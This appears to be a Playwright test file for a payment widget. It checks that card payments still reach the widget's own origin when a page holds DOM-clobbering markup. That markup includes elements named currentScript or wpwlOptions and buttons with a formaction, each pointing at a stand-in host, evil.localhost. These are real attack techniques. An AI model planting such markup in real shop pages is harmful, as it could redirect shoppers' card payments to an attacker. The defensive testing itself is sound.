import type { Browser, Page } from '@playwright/test';
import words from '#locales/en' with { type: 'json' };
import { cardForm } from '../../pages/card-form.ts';
import { createOffer, storedForm } from '../../pages/stored-form.ts';
import { expect, test } from '../../support/fixtures.ts';
import { holdRequests } from '../../support/hold-requests.ts';
import { countPayments } from '../../support/ledger.ts';

/*
 * Markup without scripts, as a shopper's comment or an advertisement could bring it into a page. Named elements
 * replace properties of `window`, `document` and forms (https://html.spec.whatwg.org/#named-access-on-the-window-object).
 */

/** A blocked port: the browser starts requests to it, and none of them is sent. */
const evil = 'http://evil.localhost:9/';

const scriptUrl = `${evil}v1/paymentWidgets.js`;

/** `before`: markup before the widget's script; `inside`: inside the form that the widget replaces. */
const attacks: Readonly<Record<string, readonly { before?: string; inside?: string }[]>> = {
  'elements named like properties of the document': [
    { before: `<img name="currentScript" src="${scriptUrl}">` },
    { before: `<form name="currentScript"><input name="src" value="${scriptUrl}"></form>` },
  ],
  'elements and frames named wpwlOptions': [
    { before: `<a id="wpwlOptions" href="${evil}">options</a>` },
    {
      before: `<form id="wpwlOptions"><input name="baseUrl" value="${evil}">
        <input name="shopperResultUrl" value="${evil}"><input name="paymentTarget" value="evil"></form>`,
    },
    { before: `<a id="wpwlOptions"></a><a id="wpwlOptions" name="baseUrl" href="${evil}"></a>` },
    { before: `<iframe name="wpwlOptions" srcdoc="<a id=baseUrl href=${evil}></a>"></iframe>` },
    { before: `<iframe name="wpwlOptions" src="data:text/html,elsewhere"></iframe>` },
  ],
  'buttons with a formaction': [
    {
      inside: `<button formaction="${evil}">Pay now</button><input type="image" formaction="${evil}">`,
    },
  ],
};

/** Presses keys only: clicks, inserted text, role and attribute selectors do not work with such elements around. */
async function fillAndPay(page: Page, digits = '4200000000000091'): Promise<void> {
  const { number, cvv } = cardForm(page);
  await number.pressSequentially(digits);
  await page.locator('.wpwl-control-expiry').pressSequentially('1239');
  await page.locator('.wpwl-control-cardHolder').pressSequentially('Jane Jones');
  await cvv.pressSequentially('123');
  await cvv.press('Enter');
}

const documentInterfaces = ['Document', 'Node', 'EventTarget'];
const formInterfaces = ['HTMLFormElement', 'HTMLElement', 'Element', 'Node', 'EventTarget'];

/** The names of all properties and methods of these interfaces in this browser. */
async function namesOf(
  browser: Browser,
  interfaces: readonly string[],
): Promise<readonly string[]> {
  const page = await browser.newPage();
  const names = await page.evaluate(
    (found) =>
      found.flatMap((name) => {
        const { prototype } = Reflect.get(window, name) as { readonly prototype: object };
        return Object.getOwnPropertyNames(prototype);
      }),
    interfaces,
  );
  await page.close();
  return names;
}

async function imagesOf(browser: Browser): Promise<string> {
  return (await namesOf(browser, documentInterfaces))
    .map((name) => `<img name="${name}">`)
    .join('');
}

async function inputsOf(browser: Browser): Promise<string> {
  return (await namesOf(browser, formInterfaces))
    .map((name) => `<input type="hidden" name="${name}" value="x">`)
    .join('');
}

test.describe('The widget', () => {
  // The images are requested from there.
  test.use({ allowedHosts: [new URL(evil).host] });

  for (const [index, [what, rows]] of Object.entries(attacks).entries())
    test(`pays to its own origin on a page with ${what} @firefox-full ${index === 0 ? '' : '@full'}`, async ({
      page,
      sandbox,
    }) => {
      const requested: string[] = [];
      page.on('request', (request) => {
        if (request.resourceType() !== 'image') requested.push(request.url());
      });
      for (const { before = '', inside = '' } of rows)
        await test.step(before + inside, async () => {
          const checkoutId = await sandbox.createCheckout();
          await sandbox.merchantPage(page, {
            body: `${before}<script src="${sandbox.scriptAddress(checkoutId)}"></script>
              <form action="/result?order=7" class="paymentWidgets" data-brands="VISA">${inside}</form>`,
          });
          await fillAndPay(page);
          const returned = await sandbox.result(page);
          expect(returned.get('order')).toBe('7');
          expect(returned.get('resourcePath')).toBe(`/v1/checkouts/${checkoutId}/payment`);
          expect(await countPayments(sandbox, checkoutId)).toBe(1);
        });
      expect(requested.filter((url) => url.startsWith(evil))).toEqual([]);
    });

  test('pays on a page with images named like every property of the document @full @firefox-full', async ({
    page,
    browser,
    shop,
  }) => {
    await shop.open({ before: await imagesOf(browser) });
    await fillAndPay(page);
    await shop.expectPaid();
  });

  test('challenges the shopper in a form with inputs named like all of its properties @firefox-full', async ({
    page,
    browser,
    sandbox,
    shop,
  }) => {
    const inputs = await inputsOf(browser);
    const checkoutId = await sandbox.createCheckout();
    const options = { paymentTarget: 'iframe' };
    const { head = '', body = '' } = sandbox.snippet({ checkoutId, options });
    // A form around the widget's own, as scripts of shops make it.
    const move = `document.querySelector('#place').append(document.querySelector('.paymentWidgets'));`;
    await sandbox.merchantPage(page, {
      body: `<form>${inputs}<div id="place"></div></form>
        ${body.replace('></form>', `>${inputs}</form>`)}<script>${move}</script>${head}`,
    });
    await fillAndPay(page, '4200000000000042');
    const bank = page.frameLocator('iframe.wpwl-target');
    await bank.getByRole('button', { name: 'Confirm payment' }).press('Enter');
    await shop.result();
    expect(await countPayments(sandbox, checkoutId)).toBe(1);
  });

  test('leaves a form in use where it is, on a page with an image named activeElement @full', async ({
    page,
    sandbox,
    shop,
  }) => {
    const checkoutId = await createOffer(sandbox, ['card']);
    const release = await holdRequests(page, /\/widget$/);
    await shop.open({ checkoutId, before: '<img name="activeElement">' });
    await shop.form.number.pressSequentially('4200');
    const answered = page.waitForResponse(/\/widget$/);
    release();
    await answered;
    await expect(page.getByText(words.testMode).first()).toBeVisible();
    await expect(shop.form.number).toBeVisible();
    await expect(storedForm(page).container).toHaveCount(0);
  });

  test('unloads a form with inputs named like all of its properties @full', async ({
    page,
    browser,
    shop,
  }) => {
    await shop.open({ inside: await inputsOf(browser) });
    await shop.form.number.fill('4200');
    await page.evaluate('wpwl.unload()');
    await expect(page.locator('.wpwl-container, .wpwl-form')).toHaveCount(0);
    expect(shop.pageErrors).toEqual([]);
  });
});
